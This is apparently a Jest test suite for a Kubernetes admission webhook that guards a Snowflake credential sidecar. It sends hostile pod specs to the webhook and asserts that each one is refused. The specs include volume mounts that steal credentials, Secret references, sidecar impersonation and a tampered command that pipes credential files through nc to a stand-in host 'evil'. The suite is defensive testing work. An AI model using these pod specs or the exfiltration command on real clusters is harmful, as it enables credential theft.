/* eslint-disable @typescript-eslint/no-explicit-any -- hostile pods are built as untyped JSON */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import jsonPatch from 'fast-json-patch';
import { Pod as PodModel } from 'kubernetes-models/v1';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { parse } from 'yaml';
import { createCertificateAuthority, issueServingCertificate } from '../certs/x509.js';
import type { SnowflakeAccessPolicy } from '../crd/policy-schema.js';
import { createOperatorMetrics } from '../metrics.js';
import { admissionReview, postAdmission } from '../testing/admission-client.js';
import { startWebhookServer, type WebhookServer } from './webhook-server.js';

// Hostile pods against the real webhook over real HTTPS: each case is what an attacker who can
// create (or debug) a pod in a pipeline namespace would send, and asserts the refusal, its stable
// reason and that no patch (no sidecar volumes) came back.
const testdata = fileURLToPath(new URL('../../testdata/inject/', import.meta.url));
const jobPod = parse(readFileSync(`${testdata}job-pod/pod.yaml`, 'utf8'));
const policy = parse(readFileSync(`${testdata}job-pod/policy.yaml`, 'utf8')) as SnowflakeAccessPolicy;
const hostPolicy = structuredClone(policy);
hostPolicy.metadata.name = 'etl-host';
(hostPolicy.spec as any).podSecurity = { allowHostNetwork: true };
const now = new Date();
const ca = await createCertificateAuthority({ commonName: 'attack-ca', validityDays: 30, now });
const serving = await issueServingCertificate(ca, { dnsNames: ['localhost'], ipAddresses: ['127.0.0.1'], validityDays: 7, now });

const pod = (mutate: (p: any) => void): any => {
  const p = structuredClone(jobPod);
  mutate(p);
  return p;
};
const app = (p: any) => p.spec.containers[0];
let server: WebhookServer;
let n = 0;
const send = async (object: unknown, extra: Record<string, unknown> = {}) => {
  const uid = `attack-${++n}`;
  const { status, json } = await postAdmission(server.url, ca.certPem, JSON.stringify(admissionReview(uid, object, extra)));
  expect(status).toBe(200);
  expect(json.response.uid).toBe(uid);
  return json.response as { allowed: boolean; patch?: string; status?: { code: number; message: string }; auditAnnotations?: Record<string, string> };
};
const expectDenied = async (object: unknown, reason: string, text: RegExp, extra: Record<string, unknown> = {}) => {
  const r = await send(object, extra);
  expect(r).toMatchObject({ allowed: false, status: { code: 403 }, auditAnnotations: { 'snowtrail.dev/reason': reason } });
  expect(r.status!.message).toMatch(text);
  expect(r.patch).toBeUndefined();
};
const patched = (object: any, r: { patch?: string }) =>
  jsonPatch.applyPatch(structuredClone(object), JSON.parse(Buffer.from(r.patch!, 'base64').toString('utf8')), true, false).newDocument;
// What the API server hands a webhook for a pod injected earlier: the injection plus defaults.
const withServerDefaults = (p: any) => {
  for (const c of [...(p.spec.initContainers ?? []), ...p.spec.containers]) {
    c.terminationMessagePath = '/dev/termination-log';
    for (const probe of [c.readinessProbe, c.livenessProbe, c.startupProbe]) if (probe) probe.successThreshold = 1;
    for (const e of c.env ?? []) if (e.valueFrom?.fieldRef) e.valueFrom.fieldRef.apiVersion = 'v1';
  }
  for (const v of p.spec.volumes) if (v.configMap) v.configMap.defaultMode = 420;
  return p;
};
const injectedJobPod = async () => {
  const r = await send(jobPod);
  return withServerDefaults(patched(jobPod, r));
};

beforeAll(async () => {
  const policies = new Map([['pipelines/etl', policy], ['pipelines/etl-host', hostPolicy]]);
  server = await startWebhookServer({
    tls: serving,
    lookup: (ns, name) => policies.get(`${ns}/${name}`),
    logger: pino({ level: 'silent' }),
    metrics: createOperatorMetrics(new Registry(), { defaultMetrics: false }),
  });
});
afterAll(() => server.close());

describe('a pod cannot reach the sidecar\'s volumes', () => {
  it.each([
    ['credentials', 'snowtrail-credentials'],
    ['signing key', 'snowtrail-signing'],
    ['spool', 'snowtrail-spool'],
    ['sidecar config', 'snowtrail-config'],
    ['app token (pre-mounted, before the injection adds it)', 'snowtrail-token'],
  ])('an app container mounting the %s volume by name is denied', async (_what, volume) => {
    await expectDenied(pod((p) => (app(p).volumeMounts = [{ name: volume, mountPath: '/steal' }])), 'injected_volume_mounted', new RegExp(`container "load" mounts ${volume}`));
  });

  it('an init container mounting the credentials volume is denied', async () => {
    const hostile = pod((p) => (p.spec.initContainers = [{ name: 'migrate', image: 'evil:1', volumeMounts: [{ name: 'snowtrail-credentials', mountPath: '/k' }] }]));
    await expectDenied(hostile, 'injected_volume_mounted', /init container "migrate" mounts snowtrail-credentials/);
  });

  it('an ephemeral container in the created pod mounting the spool is denied', async () => {
    const hostile = pod((p) => (p.spec.ephemeralContainers = [{ name: 'dbg', image: 'busybox', volumeMounts: [{ name: 'snowtrail-spool', mountPath: '/s' }] }]));
    await expectDenied(hostile, 'injected_volume_mounted', /ephemeral container "dbg" mounts snowtrail-spool/);
  });

  it('an ephemeral container in the created pod targeting the sidecar is denied', async () => {
    const hostile = pod((p) => (p.spec.ephemeralContainers = [{ name: 'dbg', image: 'busybox', targetContainerName: 'snowtrail-sidecar' }]));
    await expectDenied(hostile, 'sidecar_targeted', /ephemeral container "dbg" targets snowtrail-sidecar/);
  });

  it('a pod declaring a volume with an injected name (its own Secret behind it) is denied', async () => {
    const hostile = pod((p) => (p.spec.volumes = [{ name: 'snowtrail-signing', secret: { secretName: 'attacker-key' } }]));
    await expectDenied(hostile, 'injected_volume_declared', /declares volume snowtrail-signing/);
  });

  it('a pod reading the policy\'s Secrets under its own volume name, env or envFrom is denied', async () => {
    await expectDenied(pod((p) => (p.spec.volumes = [{ name: 'mine', secret: { secretName: 'snowflake-etl' } }])), 'policy_secret_referenced', /volume "mine" reads Secret snowflake-etl/);
    await expectDenied(pod((p) => (p.spec.volumes = [{ name: 'mine', projected: { sources: [{ secret: { name: 'snowtrail-signing' } }] } }])), 'policy_secret_referenced', /reads Secret snowtrail-signing/);
    await expectDenied(pod((p) => (app(p).env = [{ name: 'K', valueFrom: { secretKeyRef: { name: 'snowflake-etl', key: 'private-key.pem' } } }])), 'policy_secret_referenced', /container "load" reads Secret snowflake-etl into env K/);
    await expectDenied(pod((p) => (app(p).envFrom = [{ secretRef: { name: 'snowflake-etl' } }])), 'policy_secret_referenced', /through envFrom/);
  });
});

describe('a pod cannot claim to be injected', () => {
  it('a container named like the sidecar (with the status annotation) is not taken as the sidecar', async () => {
    const hostile = pod((p) => {
      p.metadata.annotations['snowtrail.dev/status'] = 'injected';
      p.spec.initContainers = [{ name: 'snowtrail-sidecar', image: 'evil/exfil:1', restartPolicy: 'Always' }];
    });
    await expectDenied(hostile, 'injection_mismatch', /initContainers\[0\]\.image differs/);
  });

  it('the status annotation alone proves nothing: the pod is injected like any other', async () => {
    const claimed = pod((p) => (p.metadata.annotations['snowtrail.dev/status'] = 'injected'));
    const r = await send(claimed);
    expect(r.allowed).toBe(true);
    expect(patched(claimed, r).spec.initContainers[0].name).toBe('snowtrail-sidecar');
  });

  it('a pod carrying exactly the injection (with the API server\'s defaults) is admitted unchanged', async () => {
    const r = await send(await injectedJobPod());
    expect(r).toMatchObject({ allowed: true, auditAnnotations: { 'snowtrail.dev/reason': 'already_injected' } });
    expect(r.patch).toBeUndefined();
  });

  it.each([
    ['a command on the genuine sidecar', (p: any) => (p.spec.initContainers[0].command = ['sh', '-c', 'cat /var/run/snowtrail/credentials/* | nc evil 80']), /initContainers\[0\]\.command was not written by the injection/],
    ['an added capability', (p: any) => (p.spec.initContainers[0].securityContext.capabilities.add = ['SYS_PTRACE']), /securityContext\.capabilities\.add was not written/],
    ['the credentials volume pointed at another Secret', (p: any) => (p.spec.volumes.find((v: any) => v.name === 'snowtrail-credentials').secret.secretName = 'other'), /volumes\[snowtrail-credentials\]\.secret\.secretName differs/],
    ['a second sidecar-named container', (p: any) => p.spec.containers.push({ name: 'snowtrail-sidecar', image: 'evil:1' }), /2 containers are named snowtrail-sidecar/],
    ['an app env pointing the driver elsewhere', (p: any) => p.spec.containers[0].env.push({ name: 'SNOWFLAKE_HOST', value: 'myorg.snowflakecomputing.com' }), /sets SNOWFLAKE_HOST 2 times/],
  ])('an injected pod with %s is denied', async (_what, tamper, text) => {
    const p = await injectedJobPod();
    tamper(p);
    await expectDenied(p, 'injection_mismatch', text);
  });
});

describe('pod-level sharing', () => {
  it.each([
    ['hostNetwork', (p: any) => (p.spec.hostNetwork = true)],
    ['hostPID', (p: any) => (p.spec.hostPID = true)],
    ['shareProcessNamespace', (p: any) => (p.spec.shareProcessNamespace = true)],
  ])('%s is denied unless the policy allows it', async (field, set) => {
    await expectDenied(pod(set), 'host_namespace_not_allowed', new RegExp(`${field} \\(allow with spec\\.podSecurity\\.allow`));
  });

  it('hostNetwork is admitted (and injected) when the policy allows it, the others still denied', async () => {
    const allowed = pod((p) => {
      p.metadata.annotations['snowtrail.dev/policy'] = 'etl-host';
      p.spec.hostNetwork = true;
    });
    const r = await send(allowed);
    expect(r.allowed).toBe(true);
    expect(patched(allowed, r).spec.initContainers[0].name).toBe('snowtrail-sidecar');
    await expectDenied({ ...allowed, spec: { ...allowed.spec, hostPID: true } }, 'host_namespace_not_allowed', /hostPID/);
  });
});

describe('env the injection sets', () => {
  it('every duplicate is replaced: the patched pod sets each injected name once, to the sidecar', async () => {
    const hostile = pod((p) => (app(p).env = [
      { name: 'SNOWFLAKE_HOST', value: 'first.example' },
      { name: 'KEEP', value: 'me' },
      { name: 'SNOWFLAKE_HOST', value: 'myorg.snowflakecomputing.com' },
      { name: 'SNOWFLAKE_PORT', value: '443' },
      { name: 'SNOWFLAKE_PORT', value: '443' },
    ]));
    const r = await send(hostile);
    expect(r.allowed).toBe(true);
    const out = patched(hostile, r);
    expect(() => new PodModel(out).validate()).not.toThrow();
    const env = out.spec.containers[0].env as { name: string; value: string }[];
    expect(env.filter((e) => e.name === 'SNOWFLAKE_HOST')).toEqual([{ name: 'SNOWFLAKE_HOST', value: '127.0.0.1' }]);
    expect(env.filter((e) => e.name === 'SNOWFLAKE_PORT')).toEqual([{ name: 'SNOWFLAKE_PORT', value: '8089' }]);
    expect(env.slice(0, 2).map((e) => e.name)).toEqual(['SNOWFLAKE_HOST', 'KEEP']);
  });
});

describe('pods/ephemeralcontainers (kubectl debug)', () => {
  const debug = (p: any, container: Record<string, unknown>) => ({ ...p, spec: { ...p.spec, ephemeralContainers: [{ name: 'debugger', image: 'busybox', ...container }] } });
  const sub = { operation: 'UPDATE', subResource: 'ephemeralcontainers', resource: { group: '', version: 'v1', resource: 'pods' } };

  it('an ephemeral container mounting the credentials volume is denied', async () => {
    const p = debug(await injectedJobPod(), { volumeMounts: [{ name: 'snowtrail-credentials', mountPath: '/k' }] });
    await expectDenied(p, 'injected_volume_mounted', /ephemeral container "debugger" mounts snowtrail-credentials/, { ...sub, oldObject: await injectedJobPod() });
  });

  it('an ephemeral container targeting the sidecar is denied', async () => {
    await expectDenied(debug(await injectedJobPod(), { targetContainerName: 'snowtrail-sidecar' }), 'sidecar_targeted', /targets snowtrail-sidecar/, sub);
  });

  it('an ephemeral container reading the policy\'s Secret into its env is denied', async () => {
    const p = debug(await injectedJobPod(), { env: [{ name: 'K', valueFrom: { secretKeyRef: { name: 'snowflake-etl', key: 'private-key.pem' } } }] });
    await expectDenied(p, 'policy_secret_referenced', /reads Secret snowflake-etl/, sub);
  });

  it('debugging the app container is allowed', async () => {
    const r = await send(debug(await injectedJobPod(), { targetContainerName: 'load' }), sub);
    expect(r).toMatchObject({ allowed: true, auditAnnotations: { 'snowtrail.dev/reason': 'ephemeral_containers_checked' } });
    expect(r.patch).toBeUndefined();
  });
});
